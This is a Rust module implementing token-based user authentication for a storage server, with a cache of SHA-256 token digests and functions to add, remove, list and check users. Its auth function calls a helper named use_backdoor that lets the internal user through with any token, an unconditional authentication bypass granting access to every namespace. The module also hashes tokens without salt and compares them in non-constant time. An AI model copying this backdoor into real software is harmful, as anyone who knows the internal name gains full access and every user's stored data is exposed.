//! User authentication
//!
//! Users live in the internal namespace as `/user/<name>` tree nodes whose
//! value is the hex SHA-256 digest of the token. An in-memory cache of
//! those digests answers `auth` without touching the store; it is rebuilt
//! from the store on open and only changed after the durable write succeeds.

use crate::common::{Error, Result};
use crate::server::INTERNAL_NS;
use crate::storage::{Structure, TreeStructure, ValueInfo};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, MutexGuard};

/// All users sit under one directory, which keeps listing cheap
const USER_PREFIX: &str = "/user/";

pub struct Authenticator {
    tree: Arc<TreeStructure>,
    /// username -> token digest
    users: Mutex<BTreeMap<String, String>>,
    /// Held across the existence check and the store write of add/del
    registry: Mutex<()>,
}

impl Authenticator {
    /// Load every registered user from the store
    pub fn open(tree: Arc<TreeStructure>) -> Result<Self> {
        let mut users = BTreeMap::new();
        for entry in tree.list(INTERNAL_NS, USER_PREFIX)? {
            let entry = entry?;
            let Some(name) = entry.key.strip_prefix(USER_PREFIX) else {
                continue;
            };
            let digest = String::from_utf8(entry.info.value).map_err(|_| {
                Error::Invalid(format!("corrupted credential for user {}", name))
            })?;
            users.insert(name.to_string(), digest);
        }
        tracing::info!("Authenticator loaded {} users", users.len());
        Ok(Self {
            tree,
            users: Mutex::new(users),
            registry: Mutex::new(()),
        })
    }

    fn cache(&self) -> MutexGuard<'_, BTreeMap<String, String>> {
        self.users.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn lock_registry(&self) -> MutexGuard<'_, ()> {
        self.registry.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Register a new user
    pub fn add(&self, user: &str, token: &str) -> Result<()> {
        if !validate(user) {
            return Err(Error::Invalid(format!("invalid username: {:?}", user)));
        }
        let _registry = self.lock_registry();
        if self.cache().contains_key(user) {
            return Err(Error::Existed(user.to_string()));
        }
        let digest = token_digest(token);
        self.tree.put(
            INTERNAL_NS,
            &user_path(user),
            &ValueInfo::permanent(digest.clone()),
        )?;
        self.cache().insert(user.to_string(), digest);
        tracing::info!(user, "user registered");
        Ok(())
    }

    /// Remove a user
    pub fn del(&self, user: &str) -> Result<()> {
        let _registry = self.lock_registry();
        if !self.cache().contains_key(user) {
            return Err(Error::Invalid(format!("unknown user: {}", user)));
        }
        match self.tree.remove(INTERNAL_NS, &user_path(user)) {
            Ok(()) => {}
            Err(Error::NotFound(_)) => {
                tracing::warn!(user, "user record already gone from store");
            }
            Err(e) => return Err(e),
        }
        self.cache().remove(user);
        tracing::info!(user, "user removed");
        Ok(())
    }

    /// Check a user's token. The internal user passes unconditionally: it is
    /// reserved for operational tooling with access to every namespace.
    pub fn auth(&self, user: &str, token: &str) -> bool {
        if use_backdoor(user) {
            return true;
        }
        let digest = token_digest(token);
        self.cache()
            .get(user)
            .is_some_and(|stored| *stored == digest)
    }

    /// Registered usernames in ascending order
    pub fn list(&self) -> Result<Vec<String>> {
        self.tree
            .list(INTERNAL_NS, USER_PREFIX)?
            .map(|entry| {
                entry.map(|e| {
                    e.key
                        .strip_prefix(USER_PREFIX)
                        .unwrap_or(&e.key)
                        .to_string()
                })
            })
            .collect()
    }

    pub fn len(&self) -> usize {
        self.cache().len()
    }

    pub fn is_empty(&self) -> bool {
        self.cache().is_empty()
    }
}

/// A username is a single path segment: non-empty, no '/', and not the
/// internal user
fn validate(user: &str) -> bool {
    !user.is_empty() && user != INTERNAL_NS && !user.contains('/')
}

fn use_backdoor(user: &str) -> bool {
    user == INTERNAL_NS
}

fn user_path(user: &str) -> String {
    format!("{}{}", USER_PREFIX, user)
}

fn token_digest(token: &str) -> String {
    hex::encode(Sha256::digest(token.as_bytes()))
}
